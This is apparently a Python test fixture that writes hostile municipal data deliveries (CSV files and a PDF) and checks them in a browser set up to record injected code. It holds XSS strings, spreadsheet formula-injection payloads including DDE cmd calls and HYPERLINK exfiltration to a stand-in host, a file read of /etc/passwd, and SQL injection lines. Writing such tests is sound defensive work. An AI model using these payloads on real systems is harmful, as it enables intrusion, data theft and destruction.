"""Deliveries by somebody who means harm to whoever opens what we make of them: every text of a sender's is an attack.

Belongs here: the texts, the files with them, and what must not come of them in a browser. Does not belong here: files
that attack the reader itself (tests/bombs.py).
"""

from __future__ import annotations

import csv
from pathlib import Path

from tests import pdfs

MARK = "ondt"
"""The function that each script calls, and the host that each link and picture names."""
HTML = (
    f"<script>{MARK}(1)</script>",
    f'"><img src=x onerror={MARK}(2)>',
    f"</script><script>{MARK}(3)</script>",
    f"</title></style></textarea><svg onload={MARK}(4)>",
    f"' onmouseover='{MARK}(5)' x='",
    f'" autofocus onfocus="{MARK}(6)',
    f"<a href=javascript:{MARK}(7)>se her</a>",
    f"[se her](javascript:{MARK}(8)) ![x](http://{MARK}.example/9)",
    f"<iframe srcdoc='<script>parent.{MARK}(10)</script>'></iframe>",
    f"]]><![CDATA[<x xmlns='http://www.w3.org/1999/xhtml'><script>{MARK}(11)</script>",
    f"&lt;script&gt;{MARK}(12)&lt;/script&gt;",
    f"\\u003cscript\\u003e{MARK}(13)//<!--<script>",
    f"${{{MARK}(14)}}{{{{{MARK}(15)}}}}`{MARK}(16)`",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}(17)>",
    f"<base href=//{MARK}.example/><meta http-equiv=refresh content=0;//{MARK}.example/>",
    f"<link rel=stylesheet href=//{MARK}.example/x.css><form action=//{MARK}.example/><input name=q>",
)
FORMULAS = (
    f'=HYPERLINK("http://{MARK}.example/?"&A1,"se her")',
    f"=cmd|' /C {MARK}'!A0",
    f"+{MARK}()",
    f"-2+3+cmd|' /C {MARK}'!A0",
    f"@SUM(1+1)*cmd|' /C {MARK}'!A0",
    f"=IMPORTXML(CONCAT('http://{MARK}.example/',A1),'//a')",
    f"＝{MARK}()",
    f";={MARK}()",
    f'"={MARK}()',
    f" ={MARK}()",
    f"http://{MARK}.example/se-her",
)
TYPESETTING = (
    '#read("/etc/passwd")',
    f'#link("http://{MARK}.example")[se her]',
    "$ sum_(i=1) $ *fed* _skrå_",
    "= Overskrift",
)
SQL = ("Enhed'; drop table core.fct_fte; --", "Enhed\"; attach '/etc/passwd' as x; --", "Enhed %s {} {0} %(x)s $1 :x")
TEXTS = (*HTML, *FORMULAS, *TYPESETTING, *SQL)
_NO_NAMES = ("=", "＝", ";=", '"=', " =")
_GARBLED = ("&lt;", "\\u003c")
"""What border 1 takes for a formula in a name, and for a text read in the wrong encoding."""
FTE = (
    "Kommunekode",
    "Periode",
    "Forvaltningsområde",
    "Chefområde",
    "Enhed",
    "Ledelse",
    "Opgavefelt",
    "Årsværk",
    "Bemærkning",
)
VOLUME = (
    "Kommunekode",
    "Periode",
    "Forvaltningsområde",
    "Chefområde",
    "Enhed",
    "Mål",
    "Værdi",
    "Præcision",
    "Bemærkning",
)
PEERS = ("sammenligningssæt", "kommunekode", "sammenlignes_med")


def write_deliveries(folder: Path) -> None:
    """Write a night's worth of hostile deliveries: those that are accepted, and one with all that is not."""
    texts = [text for text in TEXTS if not text.startswith(_GARBLED)]
    names = [text for text in texts if not text.startswith(_NO_NAMES)]
    fields = ("1.2.6", "1.4.1", "1.3.3", "0.0.0")
    fte = [
        ("563", "2023", HTML[number % 7], HTML[(number + 3) % 7], f"{text} {number}",
         "", fields[number % 4], f"{3 + number % 9},5", texts[-number])
        for number, text in enumerate(names)
    ]  # fmt: skip
    _write(folder / f"fanø <img src=x onerror={MARK}(20)>.csv", FTE, fte)
    _write(
        folder / f"={MARK}() afvises.csv",
        FTE,
        [("825", "2023", text, text, text, "", "1.2.6", "3,5", text) for text in TEXTS],
    )
    volumes = [("563", "2023", "", "", "", "agenda_items", "90", "exact", HTML[0] + FORMULAS[0])]
    _write(folder / f"@{MARK}() mængder.csv", VOLUME, volumes)
    peers = [(text, "730", code) for text in names[::4] for code in ("751", "791", "615", "740")]
    _write(folder / f"' onmouseover='{MARK}(21)' sæt.csv", PEERS, peers)
    factors = [(code, text[:60], "2023", "12,5") for text in HTML[:6] for code in ("563", "730", "751")]
    _write(folder / f"javascript:{MARK}(22).csv", ("kommunekode", "faktorkode", "faktor_år", "faktorværdi"), factors)
    document = [
        ["Oversigt – opgavebeskrivelser for Læsø Kommunes administrative enheder"],
        ["Forvaltningsområde: Hav og Fyr", f"HAV OG FYR {3 + len(HTML)},0", "Lampekontoret 3,0",
         *(f"{text} 1,0" for text in HTML)],
        ["Chefområde: Fyrtårne", f"Lampekontoret {HTML[0]}", *(f"• {text} pr. 1. marts 2023" for text in TEXTS)],
    ]  # fmt: skip
    (folder / f"{MARK} <script>{MARK}(23)<∕script>.pdf").write_bytes(pdfs.typed(document))


def _write(path: Path, head: tuple, rows: list[tuple]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, delimiter=";")
        writer.writerow(head)
        writer.writerows(rows)


_LOOK = """mark => {
  const wrong = [...(window.__ran || [])].map(n => `script ${n} ran`);
  for (const one of document.querySelectorAll("*")) {
    for (const {name, value} of one.attributes) {
      if (name.startsWith("on")) wrong.push(`<${one.tagName} ${name}=${value}>`);
      const leads = ["href", "src", "action", "srcdoc", "formaction", "xlink:href", "data"].includes(name);
      const isBad = /^[\\s]*(javascript|vbscript):/i.test(value) || value.includes(mark + ".example");
      if (leads && isBad) wrong.push(value);
    }
    if (["IFRAME", "OBJECT", "EMBED", "BASE", "MGLYPH"].includes(one.tagName)) wrong.push(`<${one.tagName}>`);
    const runs = one.tagName === "SCRIPT" && !one.src && (!one.type || /script|module/.test(one.type));
    if (runs && one.text.includes(mark)) wrong.push(one.text);
    if (one.tagName === "META" && one.httpEquiv.toLowerCase() === "refresh") wrong.push("<meta refresh>");
  }
  return [...new Set(wrong)];
}"""


class Victim:
    """A browser that opens pages as a reader would, without the policy that stops scripts, and notes what came of it.

    Attributes:
        wrong: What ran, was asked of other hosts or stands in a page as more than text, with the page.
    """

    def __init__(self, browser, base: str) -> None:
        """`base` is what pages may ask for things of."""
        self.wrong: list[str] = []
        self.base = base
        self.context = browser.new_context(locale="da-DK", bypass_csp=True, accept_downloads=True)
        self.context.add_init_script(f"window.__ran = []; window.{MARK} = number => window.__ran.push(number)")
        self.page = self.context.new_page()
        self.page.on("dialog", lambda dialog: (self.wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.on("pageerror", lambda error: self.wrong.append(f"{self.page.url}: {error}"))
        self.context.on("request", self._asked)

    def _asked(self, request) -> None:
        if not request.url.startswith((self.base, "blob:", "data:", "about:")):
            self.wrong.append(f"{self.page.url} asked {request.url}")

    def opens(self, path: str) -> None:
        """Open a page below the base and look at it."""
        self.page.goto(f"{self.base}{path}")
        self.looks()

    def looks(self) -> None:
        """Look at the page as it stands now."""
        self.wrong += [f"{self.page.url}: {one}" for one in self.page.evaluate(_LOOK, MARK)]
